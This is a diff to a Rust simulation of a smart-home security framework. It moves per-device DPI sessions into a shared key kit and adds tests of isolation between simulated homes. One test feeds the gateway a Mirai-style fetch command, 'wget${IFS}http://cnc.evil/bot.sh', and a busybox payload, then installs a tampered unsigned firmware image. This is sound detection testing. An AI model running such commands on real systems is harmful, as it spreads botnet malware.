@@ -11,7 +11,7 @@ use crate::auth::{DelegationProxy, LatencyModel};
 use crate::bus::{EvidenceBus, EvidenceDrain};
 use crate::correlation::{CorrelationConfig, CorrelationEngine, Verdict};
 use crate::dataanalytics::DataAnalytics;
-use crate::dpi::{default_rules, EncryptedDpi};
+use crate::dpi::{default_rules, DpiSession, EncryptedDpi};
 use crate::evidence::EvidenceStore;
 use crate::nac::{AccessDecision, Nac};
 use crate::netmonitor::NetMonitor;
@@ -21,8 +21,9 @@ use crate::updatevet::UpdateVetter;
 use std::cell::RefCell;
 use std::collections::BTreeMap;
 use std::rc::Rc;
-use xlf_cloud::{parse_reading, CloudNode, DeviceHandler, EventPolicy, SmartCloud};
-use xlf_device::{DeviceConfig, SensorKind, SimDevice, VulnSet};
+use std::sync::{Arc, OnceLock};
+use xlf_cloud::{parse_reading, CloudNode, DeviceHandler, EventKeys, EventPolicy, SmartCloud};
+use xlf_device::{DeviceConfig, DeviceKit, SensorKind, SimDevice, VulnSet};
 use xlf_lwcrypto::kdf::derive_key;
 use xlf_lwcrypto::searchable::{Token, Tokenizer};
 use xlf_protocols::dns::{DnsRecord, RecordType};
@@ -245,8 +246,10 @@ pub struct XlfGateway {
     verifier: AppVerifier,
     analytics: DataAnalytics,
     vetter: UpdateVetter,
-    /// Per-device DPI middleboxes (bound to per-device session secrets).
-    dpi: BTreeMap<String, (EncryptedDpi, Tokenizer)>,
+    /// Where per-device DPI sessions come from.
+    kit: Arc<HomeKit>,
+    /// Per-device DPI middleboxes, created on a device's first scan.
+    dpi: BTreeMap<String, EncryptedDpi>,
     /// Token buffer reused by every DPI scan.
     tokens: Vec<Token>,
     /// The §IV-A1 authentication delegation proxy; its token lifetime is
@@ -258,7 +261,6 @@ pub struct XlfGateway {
     bus: EvidenceBus,
     /// Quarantines decided but not yet enforced (cloud-hosted Core).
     pending_quarantines: Vec<String>,
-    master_secret: Vec<u8>,
     /// Packets dropped by quarantine / NAC / vetting / verification.
     pub dropped: u64,
     /// Packets forwarded.
@@ -276,8 +278,9 @@ impl std::fmt::Debug for XlfGateway {
 }
 
 impl XlfGateway {
-    /// Creates a gateway bridging `cloud`, wired to `core`.
-    pub fn new(core: CoreHandle, config: XlfConfig, cloud: NodeId, master_secret: &[u8]) -> Self {
+    /// Creates a gateway bridging `cloud`, wired to `core`, inspecting
+    /// each device under its DPI session from `kit`.
+    pub fn new(core: CoreHandle, config: XlfConfig, cloud: NodeId, kit: Arc<HomeKit>) -> Self {
         let bus = core.borrow().bus.clone();
         let mut vetter = UpdateVetter::new(&crate::dpi::xlf_attacks_signatures().to_vec());
         vetter.trust_vendor("acme", b"acme vendor secret");
@@ -293,13 +296,13 @@ impl XlfGateway {
             verifier: AppVerifier::new().with_bus(bus.clone()),
             analytics: DataAnalytics::new().with_bus(bus.clone()),
             vetter: vetter.with_bus(bus.clone()),
+            kit,
             dpi: BTreeMap::new(),
             tokens: Vec::new(),
             auth_proxy: DelegationProxy::new(LatencyModel::default()),
             last_upstream: BTreeMap::new(),
             bus,
             pending_quarantines: Vec::new(),
-            master_secret: master_secret.to_vec(),
             config,
             dropped: 0,
             forwarded: 0,
@@ -323,15 +326,11 @@ impl XlfGateway {
         self.shaper.cost
     }
 
-    fn dpi_for(&mut self, device: &str) -> &mut (EncryptedDpi, Tokenizer) {
+    fn dpi_for(&mut self, device: &str) -> &mut EncryptedDpi {
         if !self.dpi.contains_key(device) {
-            let secret = derive_key(&self.master_secret, &format!("dpi/{device}"), 16)
-                .expect("valid kdf params");
-            let tokenizer = Tokenizer::new(&secret).expect("non-empty session secret");
-            let mut middlebox =
-                EncryptedDpi::new(default_rules()).with_bus(self.core.borrow().bus.clone());
-            middlebox.bind_session(&tokenizer);
-            self.dpi.insert(device.to_string(), (middlebox, tokenizer));
+            let middlebox =
+                EncryptedDpi::new(self.kit.dpi_session(device)).with_bus(self.bus.clone());
+            self.dpi.insert(device.to_string(), middlebox);
         }
         self.dpi.get_mut(device).expect("inserted above")
     }
@@ -341,8 +340,13 @@ impl XlfGateway {
             return false;
         }
         let mut tokens = std::mem::take(&mut self.tokens);
-        let (middlebox, tokenizer) = self.dpi_for(device);
-        tokenizer.tokenize_into(payload, &mut tokens);
+        let middlebox = self.dpi_for(device);
+        // The gateway plays the endpoint too: it tokenizes the payload
+        // under the session the middlebox inspects.
+        middlebox
+            .session()
+            .tokenizer()
+            .tokenize_into(payload, &mut tokens);
         let hit = !middlebox.inspect(device, &tokens, now).is_empty();
         self.tokens = tokens;
         hit
@@ -640,7 +644,7 @@ impl Node for XlfGateway {
 }
 
 /// Descriptor of one device in a built home.
-#[derive(Debug, Clone)]
+#[derive(Debug, Clone, PartialEq)]
 pub struct HomeDevice {
     /// Device name.
     pub name: String,
@@ -686,6 +690,87 @@ impl HomeDevice {
     }
 }
 
+/// The gateway's master secret: a device's DPI session secret is
+/// `derive_key(HOME_MASTER_SECRET, "dpi/{device}")`.
+const HOME_MASTER_SECRET: &[u8] = b"home master secret";
+
+/// The cloud's hub secret, which a device's event key is derived from.
+const HUB_SECRET: &[u8] = b"hub secret";
+
+/// The gateway's raw node id in every built home (the cloud is 0, the
+/// devices follow); a kit's device configurations address it.
+const GATEWAY_RAW: u32 = 1;
+
+/// The key material of one device list: each device's [`DeviceKit`]
+/// (signed factory firmware, credential hash, sealed store), its cloud
+/// event cipher and its gateway DPI session. All of it is a pure
+/// function of the device list and the fixed secrets every home is
+/// built with, so it is derived once and every home built from the kit
+/// ([`XlfHome::from_kit`]) shares it read-only; what depends on the
+/// home's seed (the network, its RNG, all mutable device, gateway and
+/// cloud state) stays per home.
+#[derive(Debug)]
+pub struct HomeKit {
+    devices: Vec<KitDevice>,
+    event_keys: Arc<EventKeys>,
+}
+
+#[derive(Debug)]
+struct KitDevice {
+    spec: HomeDevice,
+    kit: DeviceKit,
+    /// Bound by the first home of the kit that scans the device.
+    dpi: OnceLock<Arc<DpiSession>>,
+}
+
+impl HomeKit {
+    /// Derives the kit of `devices`. Event ciphers and DPI sessions are
+    /// left for the first home that needs each to derive, once per kit.
+    pub fn derive(devices: &[HomeDevice]) -> Self {
+        let gateway = NodeId::from_raw(GATEWAY_RAW);
+        let kits = DeviceKit::derive_all(devices.iter().map(|d| {
+            DeviceConfig::new(&d.name, d.sensor, gateway)
+                .with_vulns(d.vulns.clone())
+                .with_telemetry_period(d.telemetry_period)
+        }));
+        let devices: Vec<KitDevice> = devices
+            .iter()
+            .zip(kits)
+            .map(|(d, kit)| KitDevice {
+                spec: d.clone(),
+                kit,
+                dpi: OnceLock::new(),
+            })
+            .collect();
+        let event_keys = EventKeys::new(HUB_SECRET, devices.iter().map(|d| d.spec.name.as_str()));
+        HomeKit {
+            devices,
+            event_keys: Arc::new(event_keys),
+        }
+    }
+
+    /// Whether the kit was derived from exactly `devices`.
+    pub fn is_for(&self, devices: &[HomeDevice]) -> bool {
+        self.devices.len() == devices.len()
+            && self.devices.iter().zip(devices).all(|(k, d)| k.spec == *d)
+    }
+
+    /// The DPI session of `device`: for a device of the kit, shared and
+    /// bound at most once per kit; for any other name, bound afresh.
+    fn dpi_session(&self, device: &str) -> Arc<DpiSession> {
+        let bind = || {
+            let secret = derive_key(HOME_MASTER_SECRET, &format!("dpi/{device}"), 16)
+                .expect("valid kdf params");
+            let tokenizer = Tokenizer::new(&secret).expect("non-empty session secret");
+            Arc::new(DpiSession::bind(&default_rules(), tokenizer))
+        };
+        match self.devices.iter().find(|d| d.spec.name == device) {
+            Some(d) => Arc::clone(d.dpi.get_or_init(bind)),
+            None => bind(),
+        }
+    }
+}
+
 /// A fully wired simulated home with XLF deployed.
 pub struct XlfHome {
     /// The simulation.
@@ -711,8 +796,16 @@ impl std::fmt::Debug for XlfHome {
 impl XlfHome {
     /// Builds a home: cloud (id 0), gateway (id 1), then one node per
     /// device, all linked (devices over ZigBee/WiFi by modality, gateway
-    /// to cloud over WAN).
+    /// to cloud over WAN). Derives the devices' kit for this home alone;
+    /// homes of one device list share a kit through
+    /// [`XlfHome::from_kit`].
     pub fn build(seed: u64, config: XlfConfig, home_devices: &[HomeDevice]) -> XlfHome {
+        Self::from_kit(seed, config, &Arc::new(HomeKit::derive(home_devices)))
+    }
+
+    /// Builds a home of the kit's devices, as [`XlfHome::build`] does,
+    /// from the kit's key material.
+    pub fn from_kit(seed: u64, config: XlfConfig, kit: &Arc<HomeKit>) -> XlfHome {
         let mut net = Network::new(seed);
         let core: CoreHandle = Rc::new(RefCell::new(XlfCore::with_evidence_capacity(
             config.correlation.clone(),
@@ -721,43 +814,40 @@ impl XlfHome {
         )));
 
         let cloud_id = NodeId::from_raw(0);
-        let gateway_id = NodeId::from_raw(1);
+        let gateway_id = NodeId::from_raw(GATEWAY_RAW);
 
         // The cloud is deliberately built with the *flawed* 2016-era
         // posture the paper analyzes (permissive events and permissions):
         // XLF's thesis is that the cross-layer framework protects the home
         // even when the service layer itself is gullible.
-        let mut cloud = SmartCloud::new(
+        let mut cloud = SmartCloud::with_event_keys(
             EventPolicy::permissive(),
             xlf_cloud::smartapp::PermissionModel::Permissive,
-            b"hub secret",
+            Arc::clone(&kit.event_keys),
         );
-        for d in home_devices {
-            cloud.register_device(DeviceHandler::new(&d.name, &d.capabilities));
+        for d in &kit.devices {
+            cloud.register_device(DeviceHandler::new(&d.spec.name, &d.spec.capabilities));
         }
         let actual_cloud = net.add_node(Box::new(CloudNode::new(cloud, gateway_id)));
         assert_eq!(actual_cloud, cloud_id);
 
-        let mut gateway = XlfGateway::new(core.clone(), config, cloud_id, b"home master secret");
-        let first_device_raw = 2u32;
-        for (i, d) in home_devices.iter().enumerate() {
-            gateway.register_device(&d.name, NodeId::from_raw(first_device_raw + i as u32));
+        let mut gateway = XlfGateway::new(core.clone(), config, cloud_id, Arc::clone(kit));
+        let first_device_raw = GATEWAY_RAW + 1;
+        for (i, d) in kit.devices.iter().enumerate() {
+            gateway.register_device(&d.spec.name, NodeId::from_raw(first_device_raw + i as u32));
         }
         let actual_gateway = net.add_node(Box::new(gateway));
         assert_eq!(actual_gateway, gateway_id);
 
         let mut devices = BTreeMap::new();
-        for d in home_devices {
-            let cfg = DeviceConfig::new(&d.name, d.sensor, gateway_id)
-                .with_vulns(d.vulns.clone())
-                .with_telemetry_period(d.telemetry_period);
-            let id = net.add_node(Box::new(SimDevice::new(cfg)));
-            let medium = match d.sensor {
+        for d in &kit.devices {
+            let id = net.add_node(Box::new(SimDevice::from_kit(&d.kit)));
+            let medium = match d.spec.sensor {
                 SensorKind::Camera => Medium::Wifi,
                 _ => Medium::Zigbee,
             };
             net.connect(gateway_id, id, medium.link().with_loss(0.0));
-            devices.insert(d.name.clone(), id);
+            devices.insert(d.spec.name.clone(), id);
         }
         net.connect(gateway_id, cloud_id, Medium::Wan.link().with_loss(0.0));
 
@@ -1091,7 +1181,8 @@ mod tests {
             CorrelationConfig::default(),
             PolicyConfig::default(),
         )));
-        let mut gateway = XlfGateway::new(core, XlfConfig::full(), NodeId::from_raw(0), b"k");
+        let kit = Arc::new(HomeKit::derive(&[]));
+        let mut gateway = XlfGateway::new(core, XlfConfig::full(), NodeId::from_raw(0), kit);
         let (old, new) = (NodeId::from_raw(2), NodeId::from_raw(3));
         gateway.register_device("cam", old);
         gateway.register_device("cam", new);
@@ -1320,6 +1411,74 @@ mod tests {
             "silent flows must be covered (~1 per 5 s): got {covers}"
         );
         assert!(home.gateway_ref().shaping_cost().cover_packets > 0);
+    }
+
+    fn kit_devices() -> Vec<HomeDevice> {
+        vec![
+            HomeDevice::new("thermo", SensorKind::Temperature)
+                .with_telemetry_period(Duration::from_secs(10)),
+            HomeDevice::new("cam", SensorKind::Camera)
+                .with_vulns(VulnSet::of(&[
+                    Vulnerability::StaticPassword,
+                    Vulnerability::UnsignedFirmware,
+                ]))
+                .with_telemetry_period(Duration::from_secs(10)),
+        ]
+    }
+
+    fn run_to(home: XlfHome, secs: u64) -> HomeReport {
+        let mut runner = HomeRunner::new(home);
+        runner.run_until(SimTime::from_secs(secs));
+        runner.finish(SimTime::from_secs(secs))
+    }
+
+    #[test]
+    fn what_one_home_does_never_reaches_a_sibling_from_the_same_kit() {
+        use xlf_device::firmware::{FirmwareImage, Version};
+        let kit = Arc::new(HomeKit::derive(&kit_devices()));
+        let mut attacked = XlfHome::from_kit(7, XlfConfig::full(), &kit);
+        let sibling = XlfHome::from_kit(7, XlfConfig::full(), &kit);
+        attacked.net.run_until(SimTime::from_secs(30));
+
+        // DPI hits at the gateway, then a tampered image the camera (which
+        // takes unsigned firmware) installs.
+        let now = SimTime::from_secs(30);
+        let gateway = attacked.net.node_as_mut::<XlfGateway>(attacked.gateway);
+        let payloads: [&[u8]; 2] = [b"wget${IFS}http://cnc.evil/bot.sh", b"/bin/busybox MIRAI"];
+        let hits = gateway.unwrap().inspect_batch("cam", &payloads, now);
+        assert_eq!(hits, vec![true, true]);
+        let evil = FirmwareImage::unsigned(Version(9, 9, 9), "mallory", b"BOTNET".to_vec());
+        let (gw, cam) = (attacked.gateway, attacked.devices["cam"]);
+        let ota = Packet::new(gw, cam, "ota", evil.to_bytes());
+        attacked.net.inject(gw, cam, ota);
+        attacked.net.run_until(SimTime::from_secs(60));
+        assert!(attacked.device_ref("cam").is_compromised());
+        assert_eq!(attacked.gateway_ref().dpi["cam"].stats.matches, 2);
+
+        // The sibling, built before and run after, is untouched: its camera
+        // holds the factory image, its DPI matched nothing, and it runs
+        // exactly like a home that derived its own keys.
+        let cam = sibling.device_ref("cam");
+        assert_eq!(cam.firmware().installed().version, Version(1, 0, 0));
+        assert!(!cam.firmware().payload_contains(b"BOTNET"));
+        let own = XlfHome::build(7, XlfConfig::full(), &kit_devices());
+        let report = run_to(sibling, 60);
+        assert_eq!(report.evidence_total, 0);
+        assert_eq!(report, run_to(own, 60));
+    }
+
+    #[test]
+    fn homes_of_one_kit_share_each_device_dpi_session() {
+        let kit = Arc::new(HomeKit::derive(&kit_devices()));
+        let mut a = XlfHome::from_kit(1, XlfConfig::full(), &kit);
+        let mut b = XlfHome::from_kit(2, XlfConfig::full(), &kit);
+        let mut own = XlfHome::build(1, XlfConfig::full(), &kit_devices());
+        for home in [&mut a, &mut b, &mut own] {
+            home.net.run_until(SimTime::from_secs(30));
+        }
+        let session = |home: &XlfHome| Arc::clone(home.gateway_ref().dpi["cam"].session());
+        assert!(Arc::ptr_eq(&session(&a), &session(&b)));
+        assert!(!Arc::ptr_eq(&session(&a), &session(&own)));
     }
 
     #[test]
